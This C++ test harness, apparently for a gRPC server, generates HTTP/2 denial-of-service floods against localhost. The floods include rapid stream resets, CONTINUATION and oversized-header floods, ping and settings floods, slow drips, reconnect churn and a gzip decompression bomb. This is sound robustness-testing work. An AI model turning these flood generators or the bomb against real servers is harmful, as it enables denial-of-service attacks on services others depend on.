#include "tests/attack/http2_flood.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>
#include <zlib.h>

#include <algorithm>
#include <cerrno>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "tests/attack/http2_wire.h"

namespace tryst {
namespace {

// A bomb goes in such parts, slowly enough for HTTP/2's flow control.
constexpr size_t kBombPart = 16 << 10;

// 480 MiB of zeros in gzip's format, which has a thousandth of that. The end is missing, which is
// noticed when they lie there.
std::string Bomb() {
  std::string zeros(1 << 20, '\0');
  std::string packed(64 << 10, '\0');
  z_stream pack = {};
  deflateInit2(&pack, Z_BEST_COMPRESSION, Z_DEFLATED, 16 + MAX_WBITS, 9, Z_DEFAULT_STRATEGY);
  pack.next_in = reinterpret_cast<Bytef*>(&zeros[0]);
  pack.avail_in = static_cast<uInt>(zeros.size());
  pack.next_out = reinterpret_cast<Bytef*>(&packed[0]);
  pack.avail_out = static_cast<uInt>(packed.size());
  deflate(&pack, Z_FULL_FLUSH);
  packed.resize(pack.total_out);
  deflateEnd(&pack);
  constexpr size_t kHeadBytes = 10;
  std::string out = packed.substr(0, kHeadBytes);
  for (int i = 0; i < 480; ++i) out.append(packed, kHeadBytes);
  return out;
}

// A call whose message is a bomb.
std::string BombCall(uint32_t stream) {
  static const auto& bomb = *new std::string(Bomb());
  const std::string message = MessageHead(/*compressed=*/true, bomb.size()) + bomb;
  std::string out = Http2Frame(Http2::kHeaders, kEndHeaders, stream,
                               CallHeaders("Hello") + Http2Header("grpc-encoding", "gzip"));
  for (size_t at = 0; at < message.size(); at += kBombPart) {
    const bool last = message.size() - at <= kBombPart;
    out += Http2Frame(Http2::kData, last ? kEndStream : 0, stream, message.substr(at, kBombPart));
  }
  return out;
}

// The next bytes of a flood.
std::string Piece(Flood flood, uint32_t* stream) {
  std::string out;
  switch (flood) {
    case Flood::kResets:
      for (int i = 0; i < 200; ++i, *stream += 2) {
        out += Http2Frame(Http2::kHeaders, kEndHeaders, *stream, CallHeaders("Hello"));
        out += Http2Frame(Http2::kReset, 0, *stream, std::string("\0\0\0\x08", 4));
      }
      break;
    case Flood::kOpen:
      for (int i = 0; i < 200; ++i, *stream += 2) {
        out += Http2Frame(Http2::kHeaders, kEndHeaders, *stream, CallHeaders("Hello"));
      }
      break;
    case Flood::kContinuations:
      if (*stream == 1) out = Http2Frame(Http2::kHeaders, 0, 1, CallHeaders("Hello"));
      *stream = 3;
      for (int i = 0; i < 20; ++i) {
        out += Http2Frame(Http2::kContinuation, 0, 1,
                          Http2Header(absl::StrCat("x-", i), std::string(8000, 'a')));
      }
      break;
    case Flood::kHeaders:
      for (int i = 0; i < 10; ++i, *stream += 2) {
        out += Http2Frame(Http2::kHeaders, kEndHeaders | kEndStream, *stream,
                          CallHeaders("Hello") + Http2Header("x-big", std::string(15000, 'b')));
      }
      break;
    case Flood::kPings:
      for (int i = 0; i < 500; ++i) out += Http2Frame(Http2::kPing, 0, 0, "12345678");
      break;
    case Flood::kSettings:
      for (int i = 0; i < 500; ++i) {
        out += Http2Frame(Http2::kSettings, 0, 0, std::string("\0\4\0\1\0\0", 6));
      }
      break;
    case Flood::kNonsense:
      out = std::string(1 << 16, '\xa5');
      break;
    case Flood::kBombs:
      out = BombCall(*stream);
      *stream += 2;
      break;
    case Flood::kDrip:
    case Flood::kReconnect:
      break;
  }
  return out;
}

}  // namespace

const char* FloodName(Flood flood) {
  switch (flood) {
    case Flood::kResets:
      return "resets";
    case Flood::kOpen:
      return "open streams";
    case Flood::kContinuations:
      return "continuations";
    case Flood::kHeaders:
      return "huge headers";
    case Flood::kPings:
      return "pings";
    case Flood::kSettings:
      return "settings";
    case Flood::kDrip:
      return "dripping";
    case Flood::kReconnect:
      return "reconnecting";
    case Flood::kNonsense:
      return "nonsense";
    case Flood::kBombs:
      return "bombs";
  }
  return "";
}

const std::vector<Flood>& AllFloods() {
  static const auto& all = *new std::vector<Flood>{
      Flood::kBombs, Flood::kResets,   Flood::kOpen, Flood::kContinuations, Flood::kHeaders,
      Flood::kPings, Flood::kSettings, Flood::kDrip, Flood::kReconnect,     Flood::kNonsense};
  return all;
}

Http2Flood::Http2Flood(Flood flood, int port, int connections, const std::string& from)
    : flood_(flood), port_(port), from_(from) {
  for (int i = 0; i < connections; ++i) threads_.emplace_back([this] { Run(); });
}

Http2Flood::~Http2Flood() {
  stop_.store(true);
  for (std::thread& thread : threads_) thread.join();
}

void Http2Flood::Run() {
  while (!stop_.load()) {
    const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in own = {};
    own.sin_family = AF_INET;
    inet_pton(AF_INET, from_.c_str(), &own.sin_addr);
    sockaddr_in to = {};
    to.sin_family = AF_INET;
    to.sin_port = htons(static_cast<uint16_t>(port_));
    inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
    if (fd >= 0 && bind(fd, reinterpret_cast<sockaddr*>(&own), sizeof(own)) == 0 &&
        connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof(to)) == 0) {
      // What it did not get rid of goes with the connection. Else the kernel keeps it for minutes,
      // and from thousands of such ends its memory for TCP, which is the job's as well, becomes
      // scarce.
      const linger at_once = {1, 0};
      setsockopt(fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof(at_once));
      connections_.fetch_add(1);
      Fill(fd);
    } else {
      absl::SleepFor(absl::Milliseconds(5));
    }
    if (fd >= 0) close(fd);
  }
}

void Http2Flood::Fill(int fd) {
  uint32_t stream = 1;
  std::string out = flood_ == Flood::kNonsense ? "" : Http2Preface();
  while (!stop_.load()) {
    if (flood_ != Flood::kDrip && flood_ != Flood::kReconnect) out += Piece(flood_, &stream);
    size_t sent = 0;
    while (sent < out.size() && !stop_.load()) {
      const size_t most = flood_ == Flood::kDrip    ? 1
                          : flood_ == Flood::kBombs ? kBombPart
                                                    : out.size();
      const ssize_t took = send(fd, out.data() + sent, std::min(most, out.size() - sent),
                                MSG_NOSIGNAL | MSG_DONTWAIT);
      if (took > 0) {
        sent += static_cast<size_t>(took);
        bytes_.fetch_add(static_cast<uint64_t>(took));
      } else if (errno != EAGAIN) {
        return;
      }
      char heard[65536];
      const ssize_t got = recv(fd, heard, sizeof(heard), MSG_DONTWAIT);
      if (got == 0 || (got < 0 && errno != EAGAIN)) return;
      if (flood_ == Flood::kDrip) {
        absl::SleepFor(absl::Milliseconds(200));
      } else if (flood_ == Flood::kBombs) {
        absl::SleepFor(absl::Milliseconds(5));
      } else if (took < 0) {
        pollfd wait = {fd, POLLIN | POLLOUT, 0};
        poll(&wait, 1, 10);
      }
    }
    out.clear();
    if (flood_ == Flood::kReconnect) return;
    if (flood_ == Flood::kDrip) out = Http2Frame(Http2::kSettings, 0, 0, "");
  }
}

}  // namespace tryst
